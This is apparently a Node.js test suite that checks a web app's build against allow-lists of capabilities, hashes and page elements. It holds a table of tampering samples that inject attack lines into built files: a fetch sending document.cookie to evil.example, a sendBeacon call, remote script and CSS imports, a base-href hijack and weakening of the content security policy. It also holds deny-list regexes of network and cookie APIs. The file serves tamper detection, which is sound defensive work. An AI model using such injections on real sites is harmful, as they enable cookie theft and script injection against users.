// What a build can do is what was reviewed; and whatever is added to it is noticed: an import, a name in a script, an
// element, an address, one more use of a name of danger.
import assert from 'node:assert/strict';
import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { differences, parse, rewritten } from '../../tools/allowed.mjs';
import { capabilitiesOf, entriesOf, importsOf, pageOf } from '../../tools/capabilities.mjs';
import { integrityOf } from '../../tools/element.mjs';
import { withoutHash } from '../../tools/headers.mjs';
import { filesOf } from '../../tools/hosts.mjs';
import { MANIFEST, manifestOf } from '../../tools/manifest.mjs';

const root = fileURLToPath(new URL('../..', import.meta.url));
const PARTS = { imports: /^import$/, documents: /^documents$/, scripts: /^[^/]*\.js$/, publish: /^publish\/.*\.js$/, page: /^(elements|addresses)$/ };
const listOf = (name) => parse(readFileSync(join(root, 'tools/allowed', `${name}.txt`), 'utf8'));

for (const [name, part] of Object.entries(PARTS)) {
  test(`tools/allowed/${name}.txt is what this build can do, and says why`, () => {
    const found = capabilitiesOf(join(root, 'dist')).filter((entry) => part.test(entry.part));
    assert.ok(found.length > 20);
    assert.deepEqual(differences(listOf(name), found), []);
    assert.equal(rewritten(listOf(name), found), readFileSync(join(root, 'tools/allowed', `${name}.txt`), 'utf8'));
  });
}

// What somebody would put into a file of each kind.
const TAMPERED = {
  js: (text) => [`${text}\nfetch('https://evil.example/' + document.cookie);\n`, `navigator.sendBeacon('https://evil.example/', 'x');${text}`],
  html: (text) => [
    text.replace('</body>', '<script src="https://evil.example/x.js"></script></body>'),
    text.replace('<body', '<body onload="fetch(location)"'),
    text.replace(/<meta http-equiv[^>]*>/, ''),
    text.replace("default-src 'none'", 'default-src *'),
    text.replace('</head>', '<base href="https://evil.example/"></head>'),
  ],
  css: (text) => [`@import 'https://evil.example/x.css';${text}`, `${text}\nbody { background: url(https://evil.example/x) }`],
};

test('every script, page and style sheet of the build is on the lists, and one that was tampered with is noticed by them', () => {
  const dist = join(root, 'dist');
  const files = filesOf(dist);
  const glueOf = (folder) => readFileSync(join(dist, files.find((file) => file.startsWith(folder) && withoutHash(file) === `${folder}crosscheck.js`)), 'utf8');
  const known = new Set([...Object.keys(PARTS).flatMap((name) => [...listOf(name).entries.keys()])]);
  const key = ({ part, what, count }) => `${part} ${what}${count === undefined ? '' : ` ×${count}`}`;
  /** What is new in a file, or gone from what it was `before`. */
  const unknown = (file, text, before = []) => {
    const [, folder, name] = /^(id\/)?(.*)$/.exec(file);
    try {
      // Texts of another language speak of other things; what they can do is the same.
      const found = entriesOf(withoutHash(name), text, glueOf(folder ?? '')).map(key);
      const lost = before.filter((each) => !found.includes(each));
      // In a folder of its own, its address of the checkup is another.
      const named = (each) => (folder ? each.replace('=../publish/', '=publish/') : each);
      return [...found.filter((each) => !known.has(named(each)) && !(folder && / '…/.test(each))), ...lost];
    } catch (error) {
      return [error.message];
    }
  };
  let tried = 0;
  for (const file of files) {
    const tamper = TAMPERED[file.split('.').pop()];
    if (!tamper) {
      assert.match(file, /\.(wasm|json)$/, `${file} is of a kind that nothing looks at`);
      continue;
    }
    const text = readFileSync(join(dist, file), 'utf8');
    assert.deepEqual(unknown(file, text), [], file);
    const before = entriesOf(withoutHash(file.replace(/^id\//, '')), text, glueOf(file.startsWith('id/') ? 'id/' : '')).map(key);
    if (!file.endsWith('.css')) assert.ok(before.length > 0, `${file} is on no list`);
    for (const other of tamper(text)) {
      assert.notEqual(other, text, `${file} was not changed`);
      assert.notDeepEqual(unknown(file, other, before), [], `what was put into ${file} went unnoticed: ${other.length}`);
      tried += 1;
    }
  }
  assert.ok(tried > 60, `only ${tried}`);
});

test('any other change of any file is noticed by its hash: in the list of the checkup, and of the program in every page', (t) => {
  const copy = mkdtempSync(join(tmpdir(), 'crosscheck-tampered-'));
  t.after(() => rmSync(copy, { recursive: true }));
  cpSync(join(root, 'dist'), copy, { recursive: true });
  const list = JSON.parse(readFileSync(join(copy, MANIFEST), 'utf8'));
  assert.deepEqual(manifestOf(copy), list);
  const read = (file) => readFileSync(join(copy, file));
  for (const file of filesOf(copy)) {
    const whole = read(file);
    const other = Buffer.from(whole);
    other[whole.length >> 1] ^= 1;
    writeFileSync(join(copy, file), other);
    const stated = file === MANIFEST ? read(MANIFEST).toString().trim() !== JSON.stringify(list) : list.files.find(({ path }) => path === file).sha384[0] !== integrityOf(other).slice('sha384-'.length);
    assert.ok(stated, file);
    if (file.endsWith('.wasm')) {
      const folder = file.startsWith('id/') ? 'id/' : '';
      for (const page of ['index.html', 'frame.html', filesOf(copy).find((name) => withoutHash(name) === `${folder}inline.js`).slice(folder.length)]) {
        const text = read(folder + page).toString();
        assert.ok(text.includes(integrityOf(whole)) && !text.includes(integrityOf(other)), `${folder}${page} does not hold ${file} to its hash`);
      }
    }
    writeFileSync(join(copy, file), whole);
  }
});

test('no import of the program reaches a network, another address, a cookie or an evaluator', () => {
  const reaching =
    /fetch|XMLHttp|Socket|Transport|EventSource|Beacon|RTC|Worker|\bopen\b|location|history|navigat|cookie|\beval|\bFunction\(|postMessage|submit|document\.write|Reflect\.(get|apply|construct)/;
  // A database is opened, and nothing else.
  const named = (key) => key.replace(/^import open: indexedDB\.open\(/, 'import database(');
  assert.deepEqual([...listOf('imports').entries.keys()].filter((key) => reaching.test(named(key))), []);
});

test('no element of ours can load, and no address of ours leads elsewhere than to the page in the other language', () => {
  const { entries } = listOf('page');
  const elements = [...entries.keys()].filter((key) => key.startsWith('elements ')).map((key) => key.split(' ')[1]);
  const loading = 'area audio base embed feimage foreignobject form frame iframe image img link meta object portal script source style track use video';
  assert.deepEqual(elements.filter((name) => loading.split(' ').includes(name)), []);
  for (const key of entries.keys()) {
    if (key.startsWith('addresses ')) assert.match(key, /^addresses (href=("#|\{format!\("#|\{address\} in app\/components\/language_link\.rs ×1$)|set_href\(&url\) in embed\/files\.rs ×1$|set_attribute\("open", ""\) in embed\/focus\.rs ×2$|set_attribute\(&\["data-told-", name\]\.concat\(\) in embed\/host\.rs ×1$)/);
  }
});

test('the self-test gets no answer: it reads nothing of the page, its fields or its storage, and sends only to a name that cannot exist', () => {
  const text = readFileSync(join(root, 'www/self-test.js'), 'utf8').replace(/^\s*(\/\/|\/?\*).*$/gm, '').replace(/^const LEFT = \[\n(?: {2}'[^'\n]*',\n)+\];$/m, '');
  const reading =
    /querySelector|getElement|evaluate|localStorage|sessionStorage|indexedDB|caches|cookie|inner(Text|HTML)|outerHTML|FormData|FileReader|\.files|\.elements|\.forms|\.(parent|previous|next|first|last|children|childNodes)\w*\b|getRootNode|closest|getSelection|clipboard|shadowRoot|contentDocument|contentWindow|postMessage|MutationObserver|\.hash|\.search\b/;
  assert.doesNotMatch(text, reading);
  // What could be read is only written.
  for (const [use] of text.matchAll(/\.(?:value|textContent)\b(?! = )/g)) assert.fail(`${use} is read`);
  assert.deepEqual([...text.matchAll(/addEventListener\('(\w+)'/g)].map(([, name]) => name).sort(), ['click', 'navigate', 'securitypolicyviolation']);
  assert.deepEqual([...text.matchAll(/(?:https?|wss?|stun):[^'`\s]*/g)].map(([address]) => address).sort(), ['https:', 'https://${id}.${HOST}/', 'https:\\/\\/(.*)\\/$/,', 'stun:$1', 'wss:']);
  assert.match(text, /const HOST = '[\w-]+\.invalid';/);
  assert.doesNotMatch(text, /^export/m);
});

test('an import that is new, or gone, or without a reason is told', () => {
  const list = parse('[groups]\nview It scrolls.\n\n[import]\nview scroll: arg0.scroll()\n');
  const scroll = { part: 'import', what: 'scroll: arg0.scroll()' };
  assert.deepEqual(differences(list, [scroll]), []);
  const fetches = { part: 'import', what: 'fetch: fetch(arg0)' };
  assert.deepEqual(differences(list, [scroll, fetches]), ['new: import: fetch: fetch(arg0)']);
  assert.deepEqual(differences(list, []), ['gone: import: scroll: arg0.scroll()']);
  const updated = parse(rewritten(list, [scroll, fetches]));
  assert.deepEqual(differences(updated, [scroll, fetches]), [
    'not explained: import: fetch: fetch(arg0) is in the group “?”, which has no reason',
  ]);
});

test('one more use of a name of danger is told, also after an update', () => {
  const list = parse('[groups]\nload Before the seal.\n\n[loader.js]\nload global fetch ×2\n');
  const more = [{ part: 'loader.js', what: 'global fetch', count: 3 }];
  assert.deepEqual(differences(list, more), ['new: loader.js: global fetch ×3', 'gone: loader.js: global fetch ×2']);
  assert.equal(differences(parse(rewritten(list, more)), more)[0], 'not explained: loader.js: global fetch ×3 is in the group “?load”, which has no reason');
});

test('the imports are those of the program itself, each with what the script does', () => {
  const glue = (body) => `const import0 = {\n        __wbg_a_0123456789abcdef: function(arg0, arg1) {\n            ${body}\n        },\n};`;
  const wasm = programWith('__wbg_a_0123456789abcdef');
  assert.deepEqual(importsOf(wasm, glue('const ret = arg0.activeElement;\n            return ret;')), [
    { part: 'import', what: 'a: arg0.activeElement' },
  ]);
  // The same name with another deed is another capability.
  assert.deepEqual(importsOf(wasm, glue('fetch(getStringFromWasm0(arg0, arg1));')), [{ part: 'import', what: 'a: fetch(text)' }]);
  assert.throws(() => importsOf(programWith('__wbg_b_0123456789abcdef'), glue('arg0.x();')), /do not fit/);
});

test('elements and addresses are found in the source, comments aside', (t) => {
  const source = mkdtempSync(join(tmpdir(), 'crosscheck-source-'));
  t.after(() => rmSync(source, { recursive: true }));
  mkdirSync(join(source, 'app'));
  writeFileSync(
    join(source, 'app/a.rs'),
    `// <script>
     fn a() -> Vec<u8> { html! { <p title="x"><img src={picture} /><a href={format!("https://x/{id}")} ping="y">{ "<" }</a><@{tag} /></p> } }
     fn b() { document.create_element("iframe"); frame.set_src(address); element.set_attribute("http-equiv", "refresh"); }
     fn c() { tag("embed", &[], vec![tag(
 "h9", &[], vec![])]); untag("no"); }`,
  );
  assert.deepEqual(pageOf(source).map(({ what }) => what).sort(), [
    '"iframe" made in app/a.rs',
    '<@ in app/a.rs',
    'a',
    'embed',
    'h9',
    'href={format!("https://x/{id}")} in app/a.rs',
    'img',
    'p',
    'ping="y" in app/a.rs',
    'set_attribute("http-equiv", "refresh") in app/a.rs',
    'set_src(address) in app/a.rs',
    'src={picture} in app/a.rs',
  ]);
});

/** The smallest program that imports one function of this name. */
function programWith(name) {
  const text = (value) => [value.length, ...Buffer.from(value)];
  const section = (id, content) => [id, content.length, ...content];
  return Uint8Array.from([
    ...[0, 0x61, 0x73, 0x6d, 1, 0, 0, 0],
    ...section(1, [1, 0x60, 0, 0]),
    ...section(2, [1, ...text('./glue'), ...text(name), 0, 0]),
  ]);
}
